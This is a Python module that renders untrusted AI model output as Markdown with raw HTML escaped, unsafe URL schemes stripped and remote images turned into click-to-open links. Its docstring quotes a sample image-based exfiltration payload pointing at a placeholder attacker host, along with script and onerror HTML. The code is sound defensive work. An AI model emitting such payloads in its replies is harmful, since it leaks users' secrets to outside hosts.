"""Markdown for untrusted model output: raw HTML is escaped, nothing runs, nothing loads by itself, nothing is hidden.

* Raw HTML (``<script>``, ``<img onerror=…>``) is shown as text, and markdown-it drops ``javascript:``, ``vbscript:``,
  ``file:`` and ``data:`` URLs (``data:`` images excepted) from links and images.
* Remote images become links the user can click: an image that loads by itself can carry data out
  (``![x](https://attacker/?d=SECRET)``). Links open in a new tab, without the page as referrer.
* The renderer stops at a nesting depth (20) and would silently drop everything from there on; the part past the
  limit is shown as escaped text instead, with a note, so no reply is ever shown truncated.
"""

from __future__ import annotations

import html
from collections.abc import Sequence
from functools import lru_cache
from typing import Any

__all__ = ["render_markdown"]

_DEEP_NOTE = ("<p><em>The rest is shown as plain text: it is nested deeper than the Markdown renderer goes.</em>"
              "</p>")


@lru_cache(maxsize=1)
def _parser() -> Any:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable("table")
    md.add_render_rule("image", _image_as_link)
    md.add_render_rule("link_open", _link_open)
    return md


def _image_as_link(self: Any, tokens: Sequence[Any], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env) or src
    if src.startswith("data:image/"):  # inline data loads nothing from anywhere
        return f'<img src="{html.escape(src)}" alt="{html.escape(alt)}">'
    return (f'<a href="{html.escape(src)}" target="_blank" rel="noopener noreferrer nofollow" '
            f'title="An image the model linked to; it is not loaded until you open it">🖼 {html.escape(alt)}</a>')


def _link_open(self: Any, tokens: Sequence[Any], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    token.attrSet("target", "_blank")
    token.attrSet("rel", "noopener noreferrer nofollow")
    return str(self.renderToken(tokens, idx, options, env))


def render_markdown(text: str) -> str:
    """HTML for ``text`` rendered as Markdown, safe to put in a page, with every character of ``text`` in it."""
    try:
        md = _parser()
        env: dict[str, Any] = {}
        tokens = md.parse(text, env)
        if not _too_deep(md, tokens):
            return str(md.renderer.render(tokens, md.options, env))
        # Render the longest run of whole lines the renderer handles; show the rest as it is.
        lines = text.splitlines(keepends=True)
        low, high = 0, len(lines)
        while low < high:
            middle = (low + high + 1) // 2
            if _too_deep(md, md.parse("".join(lines[:middle]))):
                high = middle - 1
            else:
                low = middle
        rest = "".join(lines[low:])
        return str(md.render("".join(lines[:low]))) + _DEEP_NOTE + f"<pre>{html.escape(rest)}</pre>"
    except Exception:  # a renderer bug must not lose the text: show it escaped instead
        return f"<pre>{html.escape(text)}</pre>"


def _too_deep(md: Any, tokens: Sequence[Any]) -> bool:
    """Whether markdown-it reached its nesting limit in ``tokens`` (past it, it drops the rest of the document)."""
    limit = int(md.options.get("maxNesting", 20)) - 1
    stack = list(tokens)
    while stack:
        token = stack.pop()
        if token.level >= limit:
            return True
        if token.children:
            stack.extend(token.children)
    return False
